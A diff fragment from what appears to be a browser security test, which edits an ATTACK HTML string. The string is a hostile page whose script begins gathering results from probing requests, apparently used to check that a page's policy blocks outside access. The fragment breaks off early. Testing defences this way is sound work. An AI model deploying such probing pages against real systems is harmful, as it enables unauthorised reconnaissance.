@@ -63,7 +63,7 @@ def test_the_policy_of_the_page_lets_nothing_else_in(tab: Callable[..., Tab], st
     page.complaints.clear()
 
 
-ATTACK = """<!doctype html><title>waiting</title><script type="module">
+ATTACK = """<!doctype html><title>waiting</title><link rel="icon" href="data:,"><script type="module">
 const found = [];
 const ask = async (name, path, options) => {
   try {
